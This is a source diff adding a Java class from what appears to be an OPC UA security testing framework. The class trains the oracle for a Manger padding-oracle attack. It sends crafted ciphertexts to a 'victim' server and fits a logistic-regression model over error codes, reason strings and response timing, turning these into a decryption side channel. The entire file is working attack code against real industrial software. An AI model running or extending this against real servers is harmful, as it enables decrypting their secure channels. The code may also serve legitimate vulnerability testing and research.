@@ -0,0 +1,226 @@
+package attacks.manger.oracle.learner;
+
+import attacks.manger.MangerUtility;
+import attacks.manger.oracle.EnsembleOracle;
+import attacks.manger.oracle.OracleException;
+import attacks.manger.oracle.QueryScheduler;
+import attacks.manger.oracle.VictimProxy;
+import opcua.context.Endpoint;
+import opcua.context.LocalKeyPair;
+import opcua.encoding.EncodingException;
+import opcua.message.ErrorMessage;
+import opcua.message.Message;
+import opcua.message.parts.MessageType;
+import reporting.entry.Entry;
+import reporting.entry.Group;
+import reporting.entry.ValueEntry;
+import transport.SecureChannelUtil;
+
+import java.io.IOException;
+import java.util.ArrayList;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.function.Function;
+
+/**
+ * Learns an EnsembleOracle. Random plaintexts "<B" and ">=B" are sent one after another, and from the responses the
+ * log-likelihood ratios of the error codes, reason strings and response times are estimated. The weights of the three
+ * channels are then fitted by L2-regularized logistic regression on the same responses, which also compensates for
+ * channels that carry the same information (e.g. an error code and its reason string).
+ */
+public class EnsembleOracleLearner implements OracleLearner {
+    private static final int ITERATIONS = 2000;
+    private static final double LEARNING_RATE = 0.1;
+    private static final double REGULARIZATION = 0.01;
+
+    private final LocalKeyPair localKeyPair;
+    private final int numberOfSamples;
+    private final int maxSamplesPerDecision;
+    private final double minAccuracy;
+
+    /**
+     * Constructor
+     * @param localKeyPair Certificate and private key to use for queries
+     * @param numberOfSamples Number of calibration queries for "<B" and ">=B" each
+     */
+    public EnsembleOracleLearner(LocalKeyPair localKeyPair, int numberOfSamples) {
+        this(localKeyPair, numberOfSamples, 50, 0.6);
+    }
+
+    /**
+     * Constructor
+     * @param localKeyPair Certificate and private key to use for queries
+     * @param numberOfSamples Number of calibration queries for "<B" and ">=B" each
+     * @param maxSamplesPerDecision Maximum number of responses the learned oracle gathers per decision
+     * @param minAccuracy Minimum accuracy of a single response on the calibration set for the learning to succeed
+     */
+    public EnsembleOracleLearner(LocalKeyPair localKeyPair, int numberOfSamples, int maxSamplesPerDecision, double minAccuracy) {
+        this.localKeyPair = localKeyPair;
+        this.numberOfSamples = numberOfSamples;
+        this.maxSamplesPerDecision = maxSamplesPerDecision;
+        this.minAccuracy = minAccuracy;
+    }
+
+    @Override
+    public LearningResult learn(Endpoint endpoint) throws OracleException {
+        MangerUtility.throwIfSecurityConfigurationUnsupported(endpoint);
+
+        try {
+            byte[] validCipherText = SecureChannelUtil.generateEncryptedOpnRequest(endpoint, localKeyPair);
+            VictimProxy victimProxy = new VictimProxy(endpoint, validCipherText);
+            victimProxy.setQueryScheduler(QueryScheduler.forEndpoint(endpoint), QueryScheduler.Priority.CALIBRATION);
+
+            // Sequential and interleaved, so that response times are neither distorted nor drifting apart
+            List<VictimProxy.QueryResult> resultsLessB = new ArrayList<>(numberOfSamples);
+            List<VictimProxy.QueryResult> resultsGeqB = new ArrayList<>(numberOfSamples);
+            victimProxy.beginExclusive();
+            try {
+                for(int i=0; i<numberOfSamples; i++) {
+                    addIfError(resultsLessB, victimProxy.sendEncryptedPlainBlock(MangerUtility.generatePlaintextLessB(endpoint.getPublicKey())));
+                    addIfError(resultsGeqB, victimProxy.sendEncryptedPlainBlock(MangerUtility.generatePlaintextGeqB(endpoint.getPublicKey())));
+                }
+            } finally {
+                victimProxy.endExclusive();
+            }
+            if(resultsLessB.isEmpty() || resultsGeqB.isEmpty()) {
+                return createFailureResult("Server did not respond with error messages");
+            }
+
+            EnsembleOracle.Model model = fitModel(resultsLessB, resultsGeqB);
+            double accuracy = accuracy(resultsLessB, resultsGeqB, result -> model.score(errorMessage(result), result.getResponseTime()));
+            Entry report = new Group("EnsembleOracleLearner")
+                    .addSubEntry(new ValueEntry<>("Successful", accuracy >= minAccuracy))
+                    .addSubEntry(new ValueEntry<>("Accuracy of a Single Response", accuracy))
+                    .addSubEntry(new ValueEntry<>("Error Code Weight", model.getErrorCodeWeight()))
+                    .addSubEntry(new ValueEntry<>("Reason Weight", model.getReasonWeight()))
+                    .addSubEntry(new ValueEntry<>("Timing Weight", model.getTimingWeight()))
+                    .addSubEntry(new ValueEntry<>("Empirical Mean for \"<B\"", model.getMeanLessB()))
+                    .addSubEntry(new ValueEntry<>("Empirical Mean for \">=B\"", model.getMeanGeqB()));
+            if(accuracy < minAccuracy) {
+                report.addSubEntry(new ValueEntry<>("Reason", "Combined side channels are not distinguishable"));
+                return new LearningResult(null, report, false);
+            }
+
+            EnsembleOracle oracle = new EnsembleOracle(model, maxSamplesPerDecision);
+            oracle.setVictimProxy(victimProxy);
+            return new LearningResult(oracle, report);
+        }
+        catch (EncodingException | IOException e) {
+            throw new OracleException(e);
+        }
+    }
+
+    private static void addIfError(List<VictimProxy.QueryResult> results, VictimProxy.QueryResult result) {
+        Message response = result.getResponse();
+        if(response != null && response.getMessageType() == MessageType.ERR) {
+            results.add(result);
+        }
+    }
+
+    private static ErrorMessage errorMessage(VictimProxy.QueryResult result) {
+        return (ErrorMessage) result.getResponse();
+    }
+
+    private static EnsembleOracle.Model fitModel(List<VictimProxy.QueryResult> resultsLessB, List<VictimProxy.QueryResult> resultsGeqB) {
+        Map<Long, Double> errorCodeEvidence = discreteEvidence(resultsLessB, resultsGeqB, result -> errorMessage(result).getError());
+        Map<String, Double> reasonEvidence = discreteEvidence(resultsLessB, resultsGeqB, result -> String.valueOf(errorMessage(result).getReason()));
+
+        double meanLessB = mean(resultsLessB);
+        double meanGeqB = mean(resultsGeqB);
+        double standardDeviation = Math.sqrt((variance(resultsLessB, meanLessB) + variance(resultsGeqB, meanGeqB)) / 2);
+
+        // Unweighted model to extract the evidence of every channel
+        EnsembleOracle.Model unweighted = new EnsembleOracle.Model(errorCodeEvidence, reasonEvidence, meanLessB, meanGeqB, standardDeviation, 0, 1, 1, 1);
+        List<double[]> features = new ArrayList<>();
+        List<Integer> labels = new ArrayList<>();
+        for(VictimProxy.QueryResult result : resultsLessB) {
+            features.add(unweighted.evidence(errorMessage(result), result.getResponseTime()));
+            labels.add(1);
+        }
+        for(VictimProxy.QueryResult result : resultsGeqB) {
+            features.add(unweighted.evidence(errorMessage(result), result.getResponseTime()));
+            labels.add(0);
+        }
+
+        // The channels are scaled to [-1, 1] for a stable gradient descent, and the weights are scaled back afterwards
+        double[] scale = new double[] {1, 1, 1};
+        for(double[] x : features) {
+            for(int j=0; j<x.length; j++) {
+                scale[j] = Math.max(scale[j], Math.abs(x[j]));
+            }
+        }
+
+        // Logistic regression: weights[0] is the bias
+        double[] weights = new double[] {0, 1, 1, 1};
+        for(int iteration=0; iteration<ITERATIONS; iteration++) {
+            double[] gradient = new double[weights.length];
+            for(int i=0; i<features.size(); i++) {
+                double[] x = features.get(i);
+                double z = weights[0];
+                for(int j=0; j<x.length; j++) {
+                    z += weights[j + 1] * x[j] / scale[j];
+                }
+                double error = 1 / (1 + Math.exp(-z)) - labels.get(i);
+                gradient[0] += error;
+                for(int j=0; j<x.length; j++) {
+                    gradient[j + 1] += error * x[j] / scale[j];
+                }
+            }
+            for(int j=0; j<weights.length; j++) {
+                double penalty = j == 0 ? 0 : REGULARIZATION * weights[j];
+                weights[j] -= LEARNING_RATE * (gradient[j] / features.size() + penalty);
+            }
+        }
+        for(int j=0; j<scale.length; j++) {
+            weights[j + 1] /= scale[j];
+        }
+
+        return new EnsembleOracle.Model(errorCodeEvidence, reasonEvidence, meanLessB, meanGeqB, standardDeviation,
+                weights[0], weights[1], weights[2], weights[3]);
+    }
+
+    /**
+     * Estimates the log-likelihood ratio of every observed value with add-one smoothing
+     */
+    private static <T> Map<T, Double> discreteEvidence(List<VictimProxy.QueryResult> resultsLessB, List<VictimProxy.QueryResult> resultsGeqB,
+                                                       Function<VictimProxy.QueryResult, T> extractor) {
+        Map<T, Integer> countsLessB = new HashMap<>();
+        Map<T, Integer> countsGeqB = new HashMap<>();
+        resultsLessB.forEach(result -> countsLessB.merge(extractor.apply(result), 1, Integer::sum));
+        resultsGeqB.forEach(result -> countsGeqB.merge(extractor.apply(result), 1, Integer::sum));
+
+        Map<T, Double> evidence = new HashMap<>();
+        countsLessB.keySet().forEach(value -> evidence.put(value, 0.0));
+        countsGeqB.keySet().forEach(value -> evidence.put(value, 0.0));
+        int distinctValues = evidence.size() + 1;
+        for(T value : evidence.keySet()) {
+            double pLessB = (countsLessB.getOrDefault(value, 0) + 1.0) / (resultsLessB.size() + distinctValues);
+            double pGeqB = (countsGeqB.getOrDefault(value, 0) + 1.0) / (resultsGeqB.size() + distinctValues);
+            evidence.put(value, Math.log(pLessB / pGeqB));
+        }
+        return evidence;
+    }
+
+    private static double mean(List<VictimProxy.QueryResult> results) {
+        return results.stream().mapToLong(VictimProxy.QueryResult::getResponseTime).average().orElse(0);
+    }
+
+    private static double variance(List<VictimProxy.QueryResult> results, double mean) {
+        return results.stream().mapToDouble(result -> Math.pow(result.getResponseTime() - mean, 2)).average().orElse(0);
+    }
+
+    private static double accuracy(List<VictimProxy.QueryResult> resultsLessB, List<VictimProxy.QueryResult> resultsGeqB,
+                                   Function<VictimProxy.QueryResult, Double> score) {
+        long correct = resultsLessB.stream().filter(result -> score.apply(result) > 0).count()
+                + resultsGeqB.stream().filter(result -> score.apply(result) <= 0).count();
+        return (double) correct / (resultsLessB.size() + resultsGeqB.size());
+    }
+
+    private static LearningResult createFailureResult(String reason) {
+        Entry report = new Group("EnsembleOracleLearner")
+                .addSubEntry(new ValueEntry<>("Successful", false))
+                .addSubEntry(new ValueEntry<>("Reason", reason));
+        return new LearningResult(report);
+    }
+}